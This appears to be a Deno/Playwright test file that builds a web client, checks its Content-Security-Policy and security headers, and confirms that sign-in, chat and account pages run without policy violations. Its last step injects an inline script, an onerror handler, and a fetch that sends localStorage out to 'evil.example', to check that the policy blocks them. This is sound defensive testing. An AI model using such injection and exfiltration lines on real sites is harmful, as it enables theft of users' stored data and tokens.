import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { extname, join } from "node:path";
import type { Page } from "playwright-core";
import { launchBrowser, signInAs, visitor } from "../support/browser.ts";
import { mustRun, ROOT } from "../support/run.ts";
import { signUp, stack } from "../support/stack.ts";

const TYPES: Record<string, string> = {
  ".html": "text/html; charset=utf-8",
  ".js": "text/javascript",
  ".css": "text/css",
  ".svg": "image/svg+xml",
};

/** Builds the web client against this run's project; answers the folder. */
async function build(): Promise<string> {
  const outDir = await Deno.makeTempDir({ prefix: "tollgate-web-" });
  await mustRun("node", [
    `${ROOT}node_modules/vite/bin/vite.js`,
    "build",
    "web",
    "--outDir",
    outDir,
  ], {
    timeoutMs: 300_000,
    env: {
      VITE_SUPABASE_URL: stack().api_url,
      VITE_SUPABASE_PUBLISHABLE_KEY: stack().publishable_key,
    },
  });
  return outDir;
}

/** As static hosts read `_headers`: a path, then its headers indented below. */
function headersOf(outDir: string): Record<string, string> {
  const [path, ...lines] = readFileSync(join(outDir, "_headers"), "utf8").trim().split("\n");
  assert.equal(path, "/*");
  return Object.fromEntries(lines.map((line) => {
    const [name = "", ...value] = line.trim().split(": ");
    return [name.toLowerCase(), value.join(": ")];
  }));
}

/** A static host at the web client's own address, so that the functions know the origin. */
async function host(page: Page, outDir: string, headers: Record<string, string>): Promise<void> {
  await page.route(`${stack().web_url}/**`, async (route) => {
    const { pathname } = new URL(route.request().url());
    const file = join(outDir, pathname);
    const path = extname(pathname) !== "" && existsSync(file) ? file : join(outDir, "index.html");
    await route.fulfill({
      path,
      headers: { ...headers, "content-type": TYPES[extname(path)] ?? "application/octet-stream" },
    });
  });
}

Deno.test("the built web client has no inline script and runs under its policy without a violation", async (t) => {
  const outDir = await build();
  const browser = await launchBrowser();
  try {
    const headers = headersOf(outDir);
    const html = readFileSync(join(outDir, "index.html"), "utf8");

    await t.step(
      "every script of the page is a file of ours, and no handler is in an attribute",
      () => {
        const scripts = [...html.matchAll(/<script\b([^>]*)>([^]*?)<\/script>/g)];
        assert.ok(scripts.length >= 2, html);
        for (const [, attributes = "", inside = ""] of scripts) {
          assert.match(attributes, /\bsrc="\/[^"]+"/);
          assert.equal(inside.trim(), "");
        }
        assert.doesNotMatch(html, /<[^>]*\son\w+=/i);
        assert.doesNotMatch(html, /javascript:/i);
        assert.match(
          html,
          /<meta http-equiv="Content-Security-Policy" content="default-src (&#39;|')none/,
        );
      },
    );

    await t.step("the headers say what a page may do, and nobody may frame it", () => {
      const csp = headers["content-security-policy"] ?? "";
      assert.match(csp, /(^|; )script-src 'self'(;|$)/);
      assert.match(csp, /(^|; )default-src 'none'(;|$)/);
      assert.match(csp, /(^|; )frame-ancestors 'none'(;|$)/);
      assert.match(csp, /(^|; )base-uri 'none'(;|$)/);
      assert.ok(csp.includes(`connect-src 'self' ${stack().api_url}`), csp);
      assert.doesNotMatch(csp, /unsafe-eval|\*/);
      assert.equal(headers["x-content-type-options"], "nosniff");
      assert.equal(headers["referrer-policy"], "strict-origin-when-cross-origin");
      assert.match(headers["permissions-policy"] ?? "", /camera=\(\)/);
      assert.match(headers["strict-transport-security"] ?? "", /^max-age=\d+/);
    });

    const person = await signUp("csp");
    const { page, problems } = await visitor(browser);
    // What a test answers itself has no address, and Chromium lets such a page reach this machine only when asked.
    await page.context().grantPermissions(["local-network-access"]);
    await host(page, outDir, headers);
    await page.addInitScript(`
      window.violations = [];
      addEventListener("securitypolicyviolation", (event) => {
        window.violations.push(event.violatedDirective + " " + event.blockedURI);
      });`);
    const violations = () => page.evaluate<string[]>("window.violations");
    const whatIsWrong = async () => [...problems, ...await violations(), page.url()].join("\n");

    await t.step(
      "signing in, chatting, buying and every page of the account work under it",
      async () => {
        await signInAs(page, person).catch(async (error) => {
          throw new Error(await whatIsWrong(), { cause: error });
        });
        await page.getByRole("textbox", { name: "Message" }).fill("What is 6 times 7?");
        await page.keyboard.press("Enter");
        await page.getByText("What is 6 times 7?").first().waitFor();
        await page.waitForLoadState("networkidle");
        assert.deepEqual(await violations(), []);
        for (const path of ["/pricing", "/account", "/usage", "/"]) {
          await page.goto(`${stack().web_url}${path}`);
          await page.getByRole("heading", { level: 1 }).first().waitFor();
          await page.waitForLoadState("networkidle");
          assert.deepEqual(await violations(), [], path);
        }
        await page.goto(`${stack().web_url}/pricing`);
        await page.getByRole("link", { name: "Upgrade to Pro" }).click();
        await page.waitForURL((url) => url.origin === new URL(stack().stripe_url).origin);
        assert.deepEqual(problems, []);
      },
    );

    await t.step(
      "a script, a handler and a request that get into the page do nothing",
      async () => {
        await page.goto(`${stack().web_url}/account`);
        await page.getByRole("heading", { level: 1 }).waitFor();
        await page.evaluate(`
        const script = document.createElement("script");
        script.textContent = "window.stolen = 1";
        document.body.append(script);
        const image = document.createElement("img");
        image.setAttribute("onerror", "window.stolen = 2");
        image.src = "data:nothing";
        document.body.append(image);
        fetch("https://evil.example/" + encodeURIComponent(JSON.stringify(localStorage))).catch(() => {});`);
        await page.waitForFunction("window.violations.length >= 3");
        assert.equal(await page.evaluate("window.stolen ?? null"), null);
        const found = (await violations()).join("\n");
        assert.match(found, /script-src/);
        assert.match(found, /connect-src https:\/\/evil\.example/);
      },
    );
  } finally {
    await browser.close();
    await Deno.remove(outDir, { recursive: true });
  }
});
